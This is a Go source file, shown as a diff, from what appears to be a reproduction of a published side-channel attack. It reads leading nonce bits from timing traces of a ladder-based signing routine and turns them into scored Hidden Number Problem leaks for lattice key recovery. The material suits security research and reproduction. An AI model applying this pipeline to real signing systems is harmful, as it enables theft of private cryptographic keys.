@@ -1,0 +1,216 @@
+package scenario
+
+import (
+	"fmt"
+	"math/big"
+	"sort"
+
+	"repro/internal/clock"
+	"repro/internal/lattice"
+	"repro/internal/probe"
+	"repro/internal/xrand"
+)
+
+// This file turns captured traces into HNP leaks for the key-recovery
+// scenario, using only attacker-visible information: detection
+// timestamps, the iteration duration learned in training, the request
+// submission time, and the public signature. The paper reads nonce bits
+// directly off the trace the same way (Figure 9); the ladder's fixed
+// iteration period makes the trace a comb whose teeth are the iteration
+// boundaries, with a midpoint tooth on 0-bit iterations.
+
+// comb geometry, in fractions of one iteration.
+const (
+	combQuietBefore = 2.5  // a ladder start is preceded by this much quiet
+	combBoundaryTol = 0.28 // a boundary detection sits this close to a slot start
+	combMidLo       = 0.44 // the 0-bit call window: true midpoint detections
+	combMidHi       = 0.64 // cluster tightly around ~0.53 of the slot
+	combLooseLo     = 0.30 // the loose window: a detection here but not in
+	combLooseHi     = 0.72 // the call window leaves the bit suspicious
+	combSlotHi      = 0.78 // slot-presence window end (boundary + midpoint)
+	combDenseSlots  = 5    // slots after the anchor that must all be populated
+	combEndEmpty    = 3    // consecutive empty slots that end the ladder
+)
+
+// scoredLeak is one candidate HNP leak with its attacker-visible
+// confidence score: boundary-confirmed known-bit slots score up,
+// suspicious bits (a detection in the loose midpoint window only —
+// plausibly a drifted real midpoint read as a 1) score heavily down.
+type scoredLeak struct {
+	leak  lattice.Leak
+	score int
+}
+
+// findAnchor returns the index of the first detection at or after start
+// that looks like a ladder start: quiet for combQuietBefore iterations
+// before it, and the next combDenseSlots iteration slots all populated.
+// The validation rejects pre-ladder noise detections (no dense comb
+// follows) and late anchors (the preceding ladder teeth break the quiet
+// requirement).
+func findAnchor(times []clock.Cycles, iter float64, start clock.Cycles) (int, bool) {
+	has := func(lo, hi float64) bool { return detectIn(times, lo, hi) }
+	for i, t := range times {
+		if t < start {
+			continue
+		}
+		ft := float64(t)
+		if has(ft-combQuietBefore*iter, ft-combBoundaryTol*iter) {
+			continue
+		}
+		ok := true
+		for k := 1; k <= combDenseSlots; k++ {
+			slot := ft + float64(k)*iter
+			if !has(slot-combBoundaryTol*iter, slot+combSlotHi*iter) {
+				ok = false
+				break
+			}
+		}
+		if ok {
+			return i, true
+		}
+	}
+	return 0, false
+}
+
+// walkComb reads one bit per iteration slot starting at the anchor,
+// re-anchoring on boundary detections so jitter cannot accumulate, until
+// combEndEmpty consecutive empty slots mark the ladder's end. It returns
+// the bit sequence, per-slot boundary-confirmation and suspicion flags
+// (a loose-window-only detection: the bit reads 1 but could be a drifted
+// 0-bit midpoint), and the total iteration count.
+func walkComb(times []clock.Cycles, iter float64, anchor float64) (bits []uint, confirmed, suspicious []bool, iters int) {
+	pos := anchor
+	empty := 0
+	for k := 0; k < 4096; k++ {
+		lo := pos - combBoundaryTol*iter
+		i := sort.Search(len(times), func(i int) bool { return float64(times[i]) >= lo })
+		var boundary float64
+		haveBoundary := false
+		for ; i < len(times); i++ {
+			ft := float64(times[i])
+			if ft > pos+combBoundaryTol*iter {
+				break
+			}
+			if !haveBoundary || abs(ft-pos) < abs(boundary-pos) {
+				boundary, haveBoundary = ft, true
+			}
+		}
+		mid := detectIn(times, pos+combMidLo*iter, pos+combMidHi*iter)
+		loose := detectIn(times, pos+combLooseLo*iter, pos+combLooseHi*iter)
+		if !haveBoundary && !mid && !loose {
+			empty++
+			if empty >= combEndEmpty {
+				iters = k - empty + 1
+				break
+			}
+		} else {
+			empty = 0
+			iters = k + 1
+		}
+		bit := uint(1)
+		if mid {
+			bit = 0
+		}
+		bits = append(bits, bit)
+		confirmed = append(confirmed, haveBoundary)
+		suspicious = append(suspicious, !mid && loose)
+		if haveBoundary {
+			pos = boundary + iter
+		} else {
+			pos += iter
+		}
+	}
+	if iters > len(bits) {
+		iters = len(bits)
+	}
+	return bits[:iters], confirmed[:iters], suspicious[:iters], iters
+}
+
+// detectIn reports whether any detection time falls in [lo, hi).
+func detectIn(times []clock.Cycles, lo, hi float64) bool {
+	i := sort.Search(len(times), func(i int) bool { return float64(times[i]) >= lo })
+	return i < len(times) && float64(times[i]) < hi
+}
+
+func abs(x float64) float64 {
+	if x < 0 {
+		return -x
+	}
+	return x
+}
+
+// leakFromTrace builds a scored HNP leak from one captured signing
+// trace: the validated anchor fixes iteration 0, the comb walk reads the
+// leading nonce bits and measures the ladder length (iterations + 1 =
+// the nonce's bit length — shorter nonces run fewer iterations, which is
+// attacker-visible), and the implicit leading 1 completes knownBits
+// known MSBs. nbits is the curve order's bit length; estimated lengths
+// outside (nbits-6, nbits] are rejected as mismeasured.
+func leakFromTrace(tr *probe.Trace, r, sg, z *big.Int, iter float64, start clock.Cycles, nbits int) (scoredLeak, bool) {
+	ai, ok := findAnchor(tr.Times, iter, start)
+	if !ok {
+		return scoredLeak{}, false
+	}
+	bits, confirmed, suspicious, iters := walkComb(tr.Times, iter, float64(tr.Times[ai]))
+	kBits := iters + 1
+	if kBits <= nbits-6 || kBits > nbits || len(bits) < knownBits-1 || kBits <= knownBits {
+		return scoredLeak{}, false
+	}
+	top := big.NewInt(1)
+	score := 0
+	for i, b := range bits[:knownBits-1] {
+		top.Lsh(top, 1)
+		top.Or(top, big.NewInt(int64(b)))
+		if confirmed[i] {
+			score++
+		}
+		if suspicious[i] {
+			score -= 5
+		}
+	}
+	return scoredLeak{leak: lattice.LeakFromTopBits(r, sg, z, top, kBits, knownBits), score: score}, true
+}
+
+// bestLeaks orders candidate leaks by confidence (score descending,
+// collection order breaking ties) and returns the ordered leaks.
+func bestLeaks(cands []scoredLeak) []lattice.Leak {
+	idx := make([]int, len(cands))
+	for i := range idx {
+		idx[i] = i
+	}
+	sort.SliceStable(idx, func(a, b int) bool { return cands[idx[a]].score > cands[idx[b]].score })
+	out := make([]lattice.Leak, len(cands))
+	for i, j := range idx {
+		out[i] = cands[j].leak
+	}
+	return out
+}
+
+// attemptSubsets returns the lattice attempt schedule over n ranked
+// leaks: the top-k subset first, then deduplicated random k-subsets from
+// the trial-seeded rng. Random diversity beats lexicographic neighbors
+// here: a confidently wrong leak near the top of the ranking would
+// otherwise contaminate nearly every attempt. The schedule is a pure
+// function of (n, k, max, rng state), so runs stay deterministic.
+func attemptSubsets(n, k, max int, rng *xrand.Rand) [][]int {
+	if k > n {
+		return nil
+	}
+	first := make([]int, k)
+	for i := range first {
+		first[i] = i
+	}
+	out := [][]int{first}
+	seen := map[string]bool{fmt.Sprint(first): true}
+	for draws := 0; len(out) < max && draws < 4*max; draws++ {
+		idxs := append([]int(nil), rng.Perm(n)[:k]...)
+		sort.Ints(idxs)
+		key := fmt.Sprint(idxs)
+		if seen[key] {
+			continue
+		}
+		seen[key] = true
+		out = append(out, idxs)
+	}
+	return out
+}
